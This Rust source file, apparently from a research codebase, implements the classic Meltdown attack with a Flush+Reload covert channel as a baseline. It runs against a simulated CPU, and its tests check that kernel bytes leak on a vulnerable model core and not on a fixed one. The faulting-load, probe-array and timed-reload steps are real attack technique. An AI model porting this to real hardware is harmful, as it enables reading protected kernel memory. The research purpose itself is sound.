//! The classic Meltdown with a **Flush+Reload** covert channel — the
//! baseline that TET-MD replaces.
//!
//! The transient load's value indexes a 256-page probe array; the line
//! the speculative access pulled in survives the squash and is found by
//! timing reloads. Unlike TET, every leaked byte costs 256 `clflush`es
//! and a probe-array cache footprint — exactly what cache-based attack
//! detectors key on (Table 1).

use tet_isa::{Asm, Reg};
use tet_uarch::{Machine, RunConfig, RunExit};

use crate::attacks::{LeakReport, LeakedByte};

/// Base virtual address of the 256-page probe array.
pub const PROBE_ARRAY: u64 = 0x0800_0000;

/// The Flush+Reload Meltdown baseline.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FlushReloadMeltdown {
    /// Reload latency below which a probe line counts as cached.
    pub hit_threshold: u64,
}

impl Default for FlushReloadMeltdown {
    fn default() -> Self {
        FlushReloadMeltdown { hit_threshold: 40 }
    }
}

impl FlushReloadMeltdown {
    /// Maps the probe array (256 user pages). Call once per machine.
    pub fn prepare(machine: &mut Machine) {
        for i in 0..256u64 {
            machine.map_user_page(PROBE_ARRAY + i * 4096);
        }
    }

    fn flush_program() -> tet_isa::Program {
        let mut a = Asm::new();
        for i in 0..256u64 {
            a.clflush_abs(PROBE_ARRAY + i * 4096);
        }
        a.halt();
        a.assemble().expect("flush program is closed")
    }

    fn transient_program(addr: u64) -> (tet_isa::Program, usize) {
        let mut a = Asm::new();
        a.load_byte_abs(Reg::Rax, addr) // faulting load
            .shl(Reg::Rax, 12u64) // secret * 4096
            .load_addr(
                Reg::R10,
                tet_isa::Addr::base_disp(Reg::Rax, PROBE_ARRAY as i64),
            );
        let handler = a.here();
        a.halt();
        (a.assemble().expect("transient program is closed"), handler)
    }

    fn reload_program(candidate: u64) -> tet_isa::Program {
        let mut a = Asm::new();
        a.rdtsc()
            .mov_reg(Reg::R8, Reg::Rax)
            .lfence()
            .load_abs(Reg::R10, PROBE_ARRAY + candidate * 4096)
            .lfence()
            .rdtsc()
            .sub(Reg::Rax, Reg::R8)
            .halt();
        a.assemble().expect("reload program is closed")
    }

    /// Leaks one kernel byte via Flush+Reload.
    pub fn leak_byte(&self, machine: &mut Machine, addr: u64) -> LeakedByte {
        let mut cycles = 0u64;

        // Warm-up transient access: Meltdown only forwards *cached*
        // data, and the faulting access itself initiates the fill — the
        // classic first-try-fails, retry-succeeds behaviour.
        let (warm, warm_handler) = Self::transient_program(addr);
        let r = machine.run(
            &warm,
            &RunConfig {
                handler_pc: Some(warm_handler),
                ..RunConfig::default()
            },
        );
        cycles += r.cycles;

        // Flush.
        let flush = Self::flush_program();
        let r = machine.run(&flush, &RunConfig::default());
        cycles += r.cycles;

        // Transient access (speculatively pulls probe[secret] in).
        let (transient, handler) = Self::transient_program(addr);
        let r = machine.run(
            &transient,
            &RunConfig {
                handler_pc: Some(handler),
                ..RunConfig::default()
            },
        );
        cycles += r.cycles;

        // Reload.
        let mut votes = vec![0u32; 256];
        let mut best = (u64::MAX, 0u8);
        for candidate in 0..256u64 {
            let r = machine.run(&Self::reload_program(candidate), &RunConfig::default());
            cycles += r.cycles;
            if r.exit != RunExit::Halted {
                continue;
            }
            let lat = r.regs.get(Reg::Rax);
            if lat < self.hit_threshold {
                votes[candidate as usize] += 1;
            }
            if lat < best.0 {
                best = (lat, candidate as u8);
            }
        }
        LeakedByte {
            value: best.1,
            votes,
            cycles,
        }
    }

    /// Leaks `len` consecutive kernel bytes.
    pub fn leak(&self, machine: &mut Machine, addr: u64, len: usize) -> LeakReport {
        let freq = machine.config().freq_ghz;
        LeakReport::from_fn(len, freq, |i| self.leak_byte(machine, addr + i))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenario::{Scenario, ScenarioOptions};
    use tet_uarch::CpuConfig;

    #[test]
    fn flush_reload_leaks_on_vulnerable_core() {
        let mut sc = Scenario::new(CpuConfig::kaby_lake_i7_7700(), &ScenarioOptions::default());
        FlushReloadMeltdown::prepare(&mut sc.machine);
        let report = FlushReloadMeltdown::default().leak(&mut sc.machine, sc.kernel_secret_va, 4);
        assert_eq!(report.recovered, b"WHIS");
    }

    #[test]
    fn flush_reload_fails_on_fixed_core() {
        let mut sc = Scenario::new(
            CpuConfig::comet_lake_i9_10980xe(),
            &ScenarioOptions::default(),
        );
        FlushReloadMeltdown::prepare(&mut sc.machine);
        let report = FlushReloadMeltdown::default().leak(&mut sc.machine, sc.kernel_secret_va, 4);
        assert!(!report.succeeded(b"WHIS"));
    }

    #[test]
    fn flush_reload_burns_hundreds_of_clflushes_per_byte() {
        use tet_pmu::Event;
        let mut sc = Scenario::new(CpuConfig::kaby_lake_i7_7700(), &ScenarioOptions::default());
        FlushReloadMeltdown::prepare(&mut sc.machine);
        let before = sc.machine.cpu().pmu.snapshot();
        let _ = FlushReloadMeltdown::default().leak_byte(&mut sc.machine, sc.kernel_secret_va);
        let delta = sc.machine.cpu().pmu.snapshot().delta(&before);
        assert!(
            delta.count(Event::ClflushExecuted) >= 256,
            "F+R must flush the whole probe array"
        );
    }
}
